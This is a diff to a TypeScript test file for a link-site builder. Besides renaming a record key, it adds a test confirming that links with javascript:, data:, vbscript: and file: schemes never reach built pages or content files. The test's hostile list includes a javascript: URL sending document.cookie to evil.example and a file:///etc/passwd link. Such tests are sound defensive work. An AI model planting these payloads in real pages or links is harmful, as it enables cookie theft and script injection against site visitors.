@@ -14,6 +14,9 @@ const settings = {
   pageSize: 2,
 };
 
+/** The key the raft pick's record fixed when it was first published (slug and item id prefix). */
+const RAFT_KEY = `raft-${itemRow({ url: 'https://raft.github.io/' }).id.slice(0, 8)}`;
+
 function picks(): PickedLink[] {
   const day = 86_400_000;
   return [
@@ -23,7 +26,7 @@ function picks(): PickedLink[] {
       tags: ['consensus', 'c++'],
       note: 'The <b>clearest</b> consensus paper.',
       publications: {
-        site: { target: 'site', key: 'raft-k1', by: 'm1', at: 10 * day, state: 'published' },
+        site: { target: 'site', key: RAFT_KEY, by: 'm1', at: 10 * day, state: 'published' },
       },
     }),
     itemRow({
@@ -120,6 +123,32 @@ describe('buildSite (Curio site)', () => {
   });
 });
 
+describe('buildSite and links that are not http(s)', () => {
+  const hostile = [
+    "javascript:fetch('https://evil.example/?c='+document.cookie)//https://example.com/",
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:msgbox(1)',
+    'file:///etc/passwd',
+  ];
+  // A co-maintainer can write any url into the shared document; the builder checks on its own.
+  const picksWith = hostile.map((url, i) =>
+    pickOf({ ...itemRow({ url: `https://evil.example/${i}`, title: `Evil ${i}` }), url }, 'Click'),
+  );
+
+  it('never builds one into a page, a feed or a content file, whoever picked it', () => {
+    const good = picks()[1]!;
+    for (const format of ['curio-site', 'content-files'] as const) {
+      const files = buildSite([...picksWith, good], { ...settings, format });
+      for (const [path, text] of files) {
+        for (const scheme of ['javascript:', 'data:', 'vbscript:', 'file:'])
+          expect(`${path}: ${text}`).not.toContain(scheme);
+        expect(text).not.toContain('Evil');
+      }
+      expect([...files.values()].join()).toContain(good.item.url);
+    }
+  });
+});
+
 describe('buildSite (content files)', () => {
   it('writes one Markdown file with front matter per pick into the folder', () => {
     const files = buildSite(picks().slice(0, 2), {
@@ -127,7 +156,7 @@ describe('buildSite (content files)', () => {
       format: 'content-files',
       contentDir: 'content/links',
     });
-    const raft = files.get('content/links/raft-k1.md');
+    const raft = files.get(`content/links/${RAFT_KEY}.md`);
     expect(raft).toBe(
       [
         '---',
